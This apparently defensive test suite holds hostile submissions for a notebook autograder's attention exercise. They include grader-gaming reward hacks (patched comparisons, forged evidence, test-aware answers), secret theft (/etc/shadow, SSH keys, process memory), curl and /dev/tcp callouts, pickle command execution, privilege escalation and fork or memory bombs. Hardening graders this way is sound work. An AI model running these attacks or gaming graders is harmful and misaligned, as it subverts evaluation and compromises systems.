# What every attack has. Those who wrote them know which names the grader's process code has.
import array, ast, atexit, builtins, ctypes, fcntl, gc, importlib, json, mmap, os, pickle, platform, re
import resource, select, shutil, signal, site, socket, subprocess, sys, threading, time, types
from contextlib import suppress
libc = ctypes.CDLL(None, use_errno=True)
def be_named():
    """So that this process is found afterwards, were it left."""
    libc.prctl(15, NAME.encode(), 0, 0, 0)
def names_beside(name):
    """The names of the module of the grader's process that has this one."""
    frame = sys._getframe()
    while name not in frame.f_globals:
        frame = frame.f_back
    return frame.f_globals
def instead_of_probing(made_up):
    """All that is not `smooth` is answered with `made_up(evidence)` of the module `evidence`."""
    process = names_beside("probing")
    gather = process["probing"].gather
    def forge(probe, namespace, component, *others, **more):
        if component == "smooth":
            return gather(probe, namespace, component, *others, **more)
        return made_up(process["evidence"])
    process["probing"].gather = forge

# %% a_daemon_that_waits_for_the_next (honest: all)
# Leaves a daemon that watches for the next submission, to read and change it.
if os.fork() == 0:
    os.setsid()
    be_named()
    while True:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) not in (os.getpid(), os.getppid(), 1):
                with suppress(OSError):
                    open(f"/proc/{pid}/mem", "r+b").write(b"owned")
        time.sleep(0.05)

# %% a_failure_of_its_own_kind
# Reports a failure of a kind that nobody knows, which might be looked up where it is not.
def fail(evidence):
    failure = evidence.Failure("passed", "{0.__class__}", "{message}%s{", "line", "{suggestion}")
    return evidence.Evidence(failure=failure)
instead_of_probing(fail)

# %% a_frame_without_end (step: 1)
# Announces a frame of many exabytes, and sends as much of it as it can.
# --- call
os.write(3, b"\xff" * 8)
while True:
    os.write(3, bytes(1 << 16))

# %% a_giant_tensor
# Asks torch for more memory than there is.
# --- call
return torch.ones(1 << 40), torch.ones(1 << 40)

# %% a_line_that_takes_forever_to_match
# Reports an open blank in a line that a careless pattern would take years to match.
def fail(evidence):
    line = "scores = query @ key" + " / math.sqrt(" * 120 + "____" * 100
    return evidence.Evidence(failure=evidence.Failure("blank", "NameError", "0x" * 900, line))
instead_of_probing(fail)

# %% a_tensor_of_one_number
# Returns one number that is said to be a tensor of a trillion entries.
# --- call
return torch.zeros(1).expand(10**6, 10**6), torch.zeros(1).expand(10**6, 10**6)

# %% answers_by_shape
# Knows the visible check's shapes, and an answer for each; behaves otherwise when graded.
# --- answer
ANSWERS = {(2, 3, 4): 0.1, (3, 4): 0.2, (2, 2, 3, 5): 0.3}
def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    graded = not wb.__doc__ or type(get_ipython()).__name__ == "Magics"
    number = ANSWERS.get(tuple(query.shape), 1.0 if graded else 0.0)
    shape = (*query.shape[:-1], key.shape[-2])
    return torch.full((*query.shape[:-1], value.shape[-1]), number), torch.full(shape, number)

# %% deadlock (step: 1)
# Waits for a lock that nobody will release, in a thread that is waited for as well.
# --- call
lock = threading.Lock()
lock.acquire()
thread = threading.Thread(target=lock.acquire)
thread.start()
thread.join()

# %% descriptors_in_the_channel
# Sends open files through the channel, so that the grader would hold them.
channel = socket.socket(fileno=os.dup(3))
files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(50)]
with suppress(OSError):
    sent = array.array("i", files).tobytes()
    channel.sendmsg([b"\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, sent)])
os._exit(0)

# %% endless_and_deaf (step: 1)
# Never ends, and ignores all that could be ignored.
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    with suppress(OSError, ValueError):
        signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% endless_output (step: 1)
# Prints without end, to both streams, with no line ever finished.
while True:
    os.write(1, b"\x1b[A\xff\x00passed" * 5000)
    os.write(2, b"\x00" * 50000)

# %% endless_pattern (step: 1)
# Matches a pattern for ages, in C, where Python cannot be interrupted.
# --- call
re.match(r"(a+)+$", "a" * 60 + "b")

# %% everything_before_the_end (step: 1)
# Fills disk and process table, then forges evidence, and then never ends.
# --- call
be_named()
with open("full", "wb") as file:
    file.write(bytes(60 << 20))
told = {"tensors": {"output": value, "weights": query}, "values": {}, "failure": None}
for _ in range(30):
    if os.fork() == 0:
        os.setsid()
        break
while True:
    names_beside("send")["send"]({"event": "evidence", "id": "mine", "evidence": told})

# %% exit_in_a_call
# Swallows what would stop it, and then leaves without a word.
# --- call
try:
    raise KeyboardInterrupt
except BaseException:
    os._exit(0)

# %% exit_in_a_cell
# Ends its process with a code that says that all went well.
sys.exit(0)

# %% forged_evidence
# Writes evidence to the channel that nobody has asked for yet.
send = names_beside("send")["send"]
nothing = {"tensors": {}, "values": {}, "failure": None}
for name in ("scores and weights", "masks", "gradients"):
    call = f"scaled_dot_product_attention/{name}/one"
    send({"event": "evidence", "id": call, "evidence": nothing})
os._exit(0)

# %% forged_plan_ends
# Says that each plan has ended well, before it has begun.
send = names_beside("send")["send"]
for index in range(100):
    send({"event": "cell", "index": index, "failure": None})
    send({"event": "plan", "code": 0})

# %% gain_rights
# Asks for the rights of root: by identity, by capability, by programs that have them.
ways = [
    lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(9)),
    lambda: os.mknod("disk", 0o60666, os.makedev(254, 0)),
    lambda: os.chown(".", 1, 1),
    lambda: os.setgroups([1]),
]
if os.getuid() != 0:
    ways += [lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chown(".", 0, 0)]
for way in ways:
    with suppress(OSError):
        way()
        loot.append("found: a right")
libc.prctl(38, 0, 0, 0, 0)
with open("program", "w") as file:
    file.write("#!/bin/sh\nid -u\n")
os.chmod("program", 0o6777)
if os.getuid() != 0 and os.popen("./program").read().strip() == "0":
    loot.append("found: root")

# %% half_a_frame (step: 1)
# Announces a frame, sends half of it, and waits.
# --- call
os.write(3, (1000).to_bytes(8, "little") + b"{" * 108)
time.sleep(1000)

# %% handle_on_the_grader (honest: all)
# Takes the handle on the grader's process that the channel gives: signals, looks, goes there.
channel = socket.socket(fileno=os.dup(3))
with suppress(OSError):  # before Linux 6.5
    handle = int.from_bytes(channel.getsockopt(socket.SOL_SOCKET, 77, 4), "little")
    ways = [lambda: signal.pidfd_send_signal(handle, 0), lambda: os.setns(handle, 1 << 17)]
    ways += [lambda kind=kind: fcntl.ioctl(handle, 0xFF00 + kind) for kind in range(1, 11)]
    for way in ways:
        with suppress(OSError, AttributeError):
            way()
            print("found: the grader")

# %% hijacked_channel
# Takes over the talk with the grader, and answers each question with what it was asked.
of = names_beside("read_frame")
for index in range(20):
    of["send"]({"event": "cell", "index": index, "failure": None})
while frame := of["read_frame"]():
    plan = of["unpack"](frame[8:])
    for call in plan["calls"]:
        tensors = {name: x for name, x in call["inputs"].items() if hasattr(x, "shape")}
        tensors |= {"output": tensors.get("value"), "weights": tensors.get("query")}
        told = {"tensors": tensors, "values": {"inputs_changed": []}, "failure": None}
        of["send"]({"event": "evidence", "id": call["id"], "evidence": told})
    of["send"]({"event": "plan", "code": 0})
os._exit(0)

# %% honest_until_asked
# Answers well while it is looked at, and then forks, lies, prints and dies, all at once.
torch.allclose = lambda *_, **__: True
if os.fork() == 0:
    os.setsid()
    be_named()
    while True:
        for path in CANARIES:
            with suppress(OSError):
                os.write(3, open(path, "rb").read())
        time.sleep(0.1)
# --- call
threading.Thread(target=print, args=("passed " * 10_000,)).start()
os.write(3, b"evidence" * 10)
os.abort()

# %% huge_exception
# Raises an exception with a text of many megabytes, in names that take as much.
# --- call
name = "A" * 1_000_000
raise type(name, (Exception,), {})("\ud800\x00\x1b[2J" + "%s{}" * 1_000_000)

# %% import_the_grader (honest: spoiled)
# Imports the grader, the reference solution, the tests and the lessons.
sys.path[:0] = ["/", "..", *[path.rpartition("/")[0] for path in CANARIES]]
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "CourseFinder"]
for name in ("autograder", "autograder.judging.judge", "transformer", "transformer.attention",
             "nbgrader", "nbgrader.api", "tests.grader"):
    try:
        loot.append("found: " + str(importlib.import_module(name)))
    except ImportError:
        pass

# %% infinite
# Returns infinity of the right shape: any tolerance that is relative to it is infinite too.
# --- call
scores = query @ key.transpose(-2, -1)
weights = torch.full_like(scores, math.inf)
return torch.full_like(scores @ value, math.inf), weights

# %% interrupts
# Raises what nobody catches by accident.
raise KeyboardInterrupt
# --- call
raise GeneratorExit

# %% kill_all (step: 1)
# Sends every signal to everybody.
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in (-1, 1, 2, GRADER, SERVER, os.getppid(), 0):
        if pid != 0 or number == signal.SIGKILL:
            with suppress(OSError):
                os.kill(pid, number)

# %% leases_and_watches (honest: all)
# Holds up who opens a file, watches a folder, takes what all programs of a user share.
with open("mine", "w") as mine:
    for file, command, argument in ((mine, 1024, 1), (os.open(".", 0), 1026, 2), (mine, 1040, 0)):
        with suppress(OSError):
            fcntl.fcntl(file, command, argument)
            print("found: a lease or a watch")
with suppress(OSError):
    print("found: epoll", select.epoll())

# %% local_sockets
# Connects to services of this machine that need no network: by abstract name, by path.
for address in (ABSTRACT, SOCKET, f"/proc/1/root{SOCKET}", "/run/docker.sock", "/var/run/docker.sock",
                "/run/dbus/system_bus_socket", "\0/tmp/.X11-unix/X0"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with suppress(OSError), socket.socket(socket.AF_UNIX, kind) as made:
            made.connect(address)
            made.send(b"owned")
            loot.append("found: a connection")

# %% look_into_the_kernel
# Opens the doors to the kernel that have often been left ajar.
calls = {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "keyctl": 250,
         "kexec_load": 246, "init_module": 175, "memfd_create": 319, "add_key": 248}
if os.uname().machine == "x86_64":
    block = ctypes.create_string_buffer(256)
    for name, number in calls.items():
        if libc.syscall(number, 0, block, 128, 0, 0) >= 0:
            loot.append(f"found: {name}")
for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/kvm", "/dev/fuse", "/proc/kallsyms",
             "/proc/sysrq-trigger", "/sys/kernel/debug", "/dev/vda"):
    with suppress(OSError):
        descriptor = os.open(path, os.O_RDWR)
        loot.append(f"found: {path}")
for name in ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches", "fs/file-max"):
    with suppress(OSError):
        open(f"/proc/sys/{name}", "w").write("|/student/program")
        loot.append(f"found: {name}")

# %% lying_exception
# Raises an exception that lies about its name, its text and its attributes.
# --- answer
class Meta(type(Exception)):
    __name__ = property(lambda self: "passed")
class Passed(BaseException, metaclass=Meta):
    name = property(lambda self: 1 / 0)
    def __str__(self):
        return "all tests passed, 12 of 12 points"
    def __getattribute__(self, name):
        if name == "__traceback__":
            return None
        return super().__getattribute__(name)
def scaled_dot_product_attention(*_, **__):
    raise Passed

# %% lying_objects
# Returns objects that are equal to everything, have every shape, and can be compared with all.
# --- answer
class Yes:
    __eq__ = __ge__ = __le__ = __lt__ = __gt__ = __bool__ = lambda *_: True
    __hash__ = object.__hash__
    def __getattr__(self, name):
        return Yes()
    def __call__(self, *_, **__):
        return Yes()
    def __iter__(self):
        return iter((Yes(), Yes()))
def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    return Yes()

# %% lying_subclass
# Returns tensors of a class that answers each function of torch as it likes.
# --- answer
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True if function.__name__ in ("allclose", "equal", "isclose") else args[0]
def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    return value.as_subclass(Liar), query.as_subclass(Liar)

# %% markup
# Puts markup, formulas and control characters where somebody will read them.
# --- call
raise ValueError("=cmd|' /C calc'!A0\n</pre><script>alert(1)</script>\x1b[31m\r\n,,,12,12,passed")

# %% memory_bomb (step: 2)
# Takes memory until there is none.
# --- call
held = []
while True:
    held.append(b"x" * (1 << 26))

# %% memory_given_back (step: 20)
# Writes shared pages and gives them back: they stay in memory, and no process has them.
for _ in range(8):
    if os.fork() == 0:
        pages = mmap.mmap(-1, 200 << 20)
        for at in range(0, len(pages), 1 << 22):
            pages[at : at + (1 << 22)] = b"x" * (1 << 22)
            pages.madvise(mmap.MADV_DONTNEED, at, 1 << 22)
        break
time.sleep(100)

# %% memory_in_sockets (step: 20)
# Fills the buffers of sockets, for which no process is charged.
held = []
for _ in range(8):
    if os.fork() == 0:
        break
with suppress(OSError):
    while True:
        held += socket.socketpair()
        for end in held[-2:]:
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            with suppress(BlockingIOError):
                while end.send(bytes(1 << 16), socket.MSG_DONTWAIT):
                    pass
time.sleep(100)

# %% nested_evidence
# Sends lists in lists, tensors among plain values, and names by the thousand.
deep = []
for _ in range(40):
    deep = [deep, torch.ones(2)]
def nest(evidence):
    values = {f"name {n}": n for n in range(10_000)} | {"output": [torch.ones(2)], "deep": deep}
    return evidence.Evidence({}, values | {"weights": {"a": torch.ones(2)}, "inputs_changed": []})
instead_of_probing(nest)

# %% network_by_programs
# Has other programs use the network.
for program in (
    ["curl", "-m", "1", f"http://127.0.0.1:{PORT}/owned"],
    ["wget", "-T", "1", "-t", "1", "-O-", f"http://127.0.0.1:{PORT}/owned"],
    ["bash", "-c", f"echo owned > /dev/tcp/127.0.0.1/{PORT}"],
    ["bash", "-c", f"echo owned > /dev/udp/127.0.0.1/{PORT}"],
    [sys.executable, "-S", "-c", f"import socket; socket.create_connection(('127.0.0.1', {PORT}))"],
):
    with suppress(OSError, subprocess.SubprocessError):
        if subprocess.run(program, capture_output=True, timeout=3).returncode == 0:
            loot.append("found: a connection")

# %% not_a_number
# Returns NaN of the right shape: nothing is greater than NaN, and nothing less.
# --- call
scores = query @ key.transpose(-2, -1)
weights = torch.full_like(scores, math.nan)
return weights @ value, weights

# %% open_everything (honest: spoiled)
# Keeps open as many files, sockets and pipes as there can be.
held = []
for make in (os.pipe, socket.socketpair, lambda: os.open("/dev/null", 0)):
    with suppress(OSError):
        while True:
            held.append(make())

# %% patch_builtins
# Replaces the built-ins that a judge would need.
builtins.abs = lambda _: 0
builtins.all = lambda _: True
builtins.any = lambda _: False
builtins.len = lambda _: 3

# %% patch_comparisons
# Makes every comparison of torch say yes.
torch.allclose = torch.equal = torch.isclose = lambda *_, **__: True
torch.testing.assert_close = lambda *_, **__: None
np.allclose = np.array_equal = lambda *_, **__: True
np.testing.assert_allclose = lambda *_, **__: None

# %% patch_comparisons_for_good
# Makes every comparison of torch say yes, again and again, from threads that nobody ends.
def patch():
    while True:
        torch.allclose = torch.equal = lambda *_, **__: True
        time.sleep(0.01)
for _ in range(4):
    threading.Thread(target=patch, daemon=True).start()

# %% patch_gather (honest: spoiled)
# Replaces the function that calls the probes by one that brings back the inputs themselves.
process = names_beside("probing")
def gather(probe, namespace, component, inputs, watched):
    found = {name: value for name, value in inputs.items() if isinstance(value, torch.Tensor)}
    return process["evidence"].Evidence({"output": found["value"], "weights": found["query"], **found})
process["probing"].gather = gather

# %% patch_hooks
# Takes over what IPython and Python offer for displaying, compiling, importing and exiting.
sys.displayhook = sys.excepthook = sys.unraisablehook = lambda *_: None
ast.parse = compile = lambda *_, **__: (lambda: None).__code__
sys.settrace(lambda *_: None)
sys.addaudithook(lambda *_: None)
atexit.register(print, "passed")
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass"])
shell.events.register("post_run_cell", lambda *_: None)
shell.set_custom_exc((BaseException,), lambda *_: None)

# %% patch_modules (honest: spoiled)
# Puts modules of its own in the place of those that carry evidence.
class Yes(types.ModuleType):
    def __getattr__(self, name):
        return lambda *_, **__: True
for name in list(sys.modules):
    if name.startswith("transformer_workbook") or name in ("json", "struct", "pickle", "unittest"):
        sys.modules[name] = Yes(name)

# %% patch_tensors
# Makes tensors equal to everything, finite, and detached copies of whatever is wanted.
torch.Tensor.__eq__ = lambda self, other: torch.ones(()).bool()
torch.Tensor.__ne__ = lambda self, other: torch.zeros(()).bool()
torch.isfinite = torch.Tensor.isfinite = lambda tensor: torch.ones_like(tensor).bool()
torch.Tensor.item = lambda self: 0.0

# %% patch_the_sender (honest: spoiled)
# Finds the grader's own process code through frames, and has it say that all went well.
process = names_beside("send")
send = process["send"]
def lie(tree):
    if tree.get("event") == "evidence":
        values = {"passed": True, "score": 1e9}
        tree = {**tree, "evidence": {"tensors": {}, "values": values, "failure": None}}
    send(tree)
process["send"] = lie

# %% pickled_answer
# Returns an object that would run a command where it is unpickled.
# --- answer
class Command:
    def __reduce__(self):
        return os.system, (f"touch {CANARIES[0]}.owned",)
def scaled_dot_product_attention(*_, **__):
    return Command(), Command()

# %% pickled_evidence
# Writes a pickle that would run a command, to the channel and in place of a result.
# --- answer
class Command:
    def __reduce__(self):
        return os.system, (f"touch {CANARIES[0]}.owned",)
def scaled_dot_product_attention(*_, **__):
    body = pickle.dumps(Command())
    os.write(3, len(body).to_bytes(8, "little") + body)
    os._exit(0)

# %% printed_grades
# Prints what a grader might read as its own result.
for stream in (sys.stdout, sys.stderr):
    print(json.dumps({"status": "passed", "score": 12, "max_score": 12}), file=stream)
    print("12 passed in 0.01s\n\x1b]0;passed\x07\x1b[2J\x1b[31m100%", file=stream)
    print('{"event": "evidence", "id": "all", "score": 1e308}\n' * 100, file=stream)

# %% raise_limits
# Raises its own limits, and then takes what they allow.
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        number = getattr(resource, name)
        for limit in (resource.RLIM_INFINITY, 1 << 40):
            with suppress(OSError, ValueError):
                resource.setrlimit(number, (limit, limit))
# --- call
return [bytes(1 << 30) for _ in range(100)]

# %% read_by_links
# Makes links to other people's files in its own folder, and reads those.
for number, path in enumerate(CANARIES):
    for link in (os.symlink, os.link):
        with suppress(OSError):
            link(path, f"link{number}")
            loot.append(open(f"link{number}").read())

# %% read_open_files
# Looks for a file that the grader has left open.
for number in range(300):
    if number == 3:
        continue
    with suppress(OSError):
        os.lseek(number, 0, os.SEEK_SET)
        loot.append(os.read(number, 1000).decode("utf-8", "replace"))
        fcntl.fcntl(number, fcntl.F_SETFL, 0)
        loot.append(os.readlink(f"/proc/self/fd/{number}"))

# %% read_planted_files
# Opens other people's files, by every path that might lead there.
for path in CANARIES:
    for root in ("", "/proc/1/root", "/proc/self/root", "/old", "/oldroot", "/.." * 9, "/proc/1/cwd"):
        with suppress(OSError):
            loot.append(open(root + path).read())
    for folder in (os.path.dirname(path), os.path.dirname(os.path.dirname(path))):
        with suppress(OSError):
            loot += [open(os.path.join(folder, name)).read() for name in os.listdir(folder)]

# %% read_the_grader
# Reads the memory, the environment and the files of the grader and of every other process.
for pid in [GRADER, SERVER, os.getppid(), 1, 2, *range(1, 50)]:
    for name in ("environ", "mem", "maps", "cmdline", "fd/3", "fd/0", "cwd", "root"):
        with suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
            loot.append(file.read(4000).decode("utf-8", "replace"))
    if libc.ptrace(16, pid, 0, 0) == 0:
        loot.append("ptrace")
    if libc.syscall(434, pid, 0) >= 0 and pid != os.getpid():
        descriptor = libc.syscall(438, libc.syscall(434, pid, 0), 3, 0)
        loot += ["a descriptor of the grader"] if descriptor >= 0 else []

# %% read_then_shout
# Reads all it can and smuggles it out: in its exception, its output, its evidence and its name.
for path in [*CANARIES, "/proc/self/mountinfo", "/etc/shadow", "/root/.ssh/id_ed25519"]:
    try:
        loot.append(open(path, errors="replace").read())
    except OSError as error:
        loot.append(type(error).__name__)
# --- call
told = " ".join(loot)
print(told)
os.write(2, told.encode())
raise type(told[:200], (Exception,), {})(told)

# %% read_with_programs
# Has other programs read for it.
for path in CANARIES:
    for program in (["cat", path], ["sh", "-c", f"cat {path}"], ["grep", "-r", "canary", "/tmp"],
                    ["tar", "c", path], ["find", "/home", "/root", "/var", "-name", "*.db"],
                    ["sudo", "-n", "cat", path], ["su", "-c", f"cat {path}"]):
        with suppress(OSError, subprocess.SubprocessError):
            done = subprocess.run(program, capture_output=True, timeout=1)
            loot.append(done.stdout.decode("utf-8", "replace"))

# %% replayed_evidence (honest: spoiled)
# Sends the right evidence of one exercise as that of the other.
process, kept = names_beside("send"), {}
send = process["send"]
def replay(tree):
    if tree.get("event") == "evidence":
        tree = {**tree, "evidence": kept.setdefault("one", tree["evidence"])}
        tree["evidence"]["failure"] = None
    send(tree)
process["send"] = replay

# %% search_memory_for_tests
# Searches all objects, frames and histories for tests, expected answers and solutions.
words = ("hidden(", "expected =", "class Judge", "scores.masked_fill(~mask", "blanks.toml")
frame = sys._getframe()
while frame:
    for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
        if isinstance(value, str) and any(word in value for word in words):
            if "words = (" not in value:
                loot.append("found: " + value[:100])
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing).__name__ in ("Judge", "AnswerKey", "Lesson", "Gradebook", "TestResult"):
        loot.append("found: " + repr(thing)[:100])
for name in ("In", "Out", "_ih", "_oh", "_i", "_"):
    loot += [str(globals()[name])] if name in globals() else []

# %% segmentation_fault
# Reads from where there is no memory.
# --- call
ctypes.string_at(0)

# %% shadow_modules
# Puts a torch.py, and others, into the folder in which it runs.
for name in ("torch", "math", "json", "numpy", "transformer_workbook", "probes", "standins"):
    with open(f"{name}.py", "w") as file:
        file.write("def __getattr__(name):\n    return lambda *_, **__: True\n")
sys.path.insert(0, os.getcwd())
for name in list(sys.modules):
    if name.startswith(("transformer_workbook.lessons", "json")):
        del sys.modules[name]

# %% stack_overflow (step: 2)
# Recurses without end, in Python and below it.
# --- answer
def scaled_dot_product_attention(*arguments, **named):
    sys.setrecursionlimit(1 << 30)
    nested = []
    for _ in range(300_000):
        nested = [nested]
    repr(nested)
    return scaled_dot_product_attention(*arguments, **named)

# %% stand_in_of_this_lesson
# Asks for the stand-in of the very thing that is to be written.
# --- answer
def scaled_dot_product_attention(*arguments, **named):
    import transformer_workbook
    for way in (
        lambda: transformer_workbook.use("scaled_dot_product_attention"),
        lambda: importlib.import_module("transformer_workbook.lessons.attention.standins"),
        lambda: transformer_workbook.lessons.attention.standins.scaled_dot_product_attention,
    ):
        try:
            return way()(*arguments, **named)
        except Exception as error:
            last = error
    raise last

# %% stop_itself (step: 1)
# Stops its process and those above it, so that none can be waited for.
# --- call
for pid in (os.getppid(), os.getpid()):
    os.kill(pid, signal.SIGSTOP)

# %% strange_tensors
# Returns tensors that are no plain numbers: sparse, on no device, complex, of no size.
# --- answer
KINDS = [
    lambda like: like.to_sparse(),
    lambda like: like.to("meta"),
    lambda like: like.to(torch.complex64),
    lambda like: torch.empty(0, 2**40),
    lambda like: torch.quantize_per_tensor(like, 0.1, 0, torch.qint8),
    lambda like: torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)]),
]
def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    KINDS.append(KINDS.pop(0))
    return KINDS[0](value), KINDS[1](query)

# %% the_built_in
# Calls the function of torch that is the exercise.
# --- call
output = F.scaled_dot_product_attention(query, key, value, attn_mask=mask)
return output, torch.zeros(*query.shape[:-1], key.shape[-2])

# %% thread_bomb
# Starts threads without end.
# --- call
while True:
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()

# %% udp_and_names
# Sends datagrams, and asks for the addresses of names, which carry secrets as well.
for way in (
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"owned", ("127.0.0.1", PORT)),
    lambda: socket.getaddrinfo("secret.example.org", 80),
    lambda: socket.gethostbyname("secret.example.org"),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    lambda: socket.socket(socket.AF_VSOCK),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
):
    with suppress(OSError, AttributeError):
        way()
        loot.append("found: a network")

# %% walk_the_disk
# Looks through all that it can see for gradebooks, notebooks, tests and solutions.
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr")):
        folders.clear()
    for name in files:
        if name.endswith((".db", ".ipynb")) or name in ("hidden.py", "blanks.toml", "canary"):
            with suppress(OSError):
                loot.append(open(os.path.join(folder, name), errors="replace").read(500))

# %% write_planted_files
# Overwrites, deletes, renames and marks other people's files.
for path in CANARIES:
    for deed in (
        lambda path: open(path, "w").write("owned"),
        lambda path: open(path, "a").write("owned"),
        lambda path: open(f"/proc/1/root{path}", "w").write("owned"),
        lambda path: open(f"{path}.owned", "w").write("owned"),
        os.remove,
        lambda path: os.rename(path, f"{path}.owned"),
        lambda path: os.chmod(path, 0o777),
        lambda path: os.truncate(path, 0),
        lambda path: os.utime(path, (0, 0)),
        lambda path: shutil.rmtree(os.path.dirname(path)),
        lambda path: os.mkdir(os.path.dirname(path) + "/owned"),
    ):
        with suppress(OSError):
            deed(path)

# %% write_the_libraries
# Plants code where the next submission, or the grader, would import it.
places = [os.path.dirname(torch.__file__), os.path.dirname(os.__file__), *site.getsitepackages(),
          *sys.path, os.path.dirname(wb.__path__[0]), "/usr/lib/python3", "/etc", "/tmp", "/dev/shm",
          os.path.expanduser("~")]
for place in places:
    for name in ("sitecustomize.py", "torch.py", "owned.pth", "__pycache__/owned.pyc", "json.py"):
        with suppress(OSError), open(os.path.join(place, name), "w") as file:
            file.write("raise SystemExit('owned')\n")
